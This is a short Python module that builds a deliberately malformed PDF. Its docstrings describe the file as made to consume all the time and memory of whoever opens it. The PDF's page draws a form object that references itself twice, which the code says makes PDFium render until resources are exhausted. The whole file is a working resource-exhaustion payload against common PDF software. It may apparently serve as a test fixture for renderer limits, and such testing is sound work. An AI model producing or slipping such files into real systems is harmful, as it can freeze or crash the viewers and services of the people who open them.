"""A PDF that is made to take all time and memory of whoever reads it."""

from __future__ import annotations

from pathlib import Path

PARTS = (
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>",
    "<</Length 5>>stream\n/X Do\nendstream",
    "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 11>>stream\n"
    "/X Do /X Do\nendstream",
)


def pdf_that_never_ends(path: Path) -> Path:
    """A page with a form that holds itself twice: PDFium draws it until time or memory is spent."""
    out, places = b"%PDF-1.4\n", []
    for number, each in enumerate(PARTS, 1):
        places.append(len(out))
        out += f"{number} 0 obj{each}endobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"trailer<</Size 6/Root 1 0 R>>\nstartxref\n{len(out)}\n%%EOF\n"
    path.write_bytes(out + f"xref\n0 6\n0000000000 65535 f \n{table}{end}".encode())
    return path
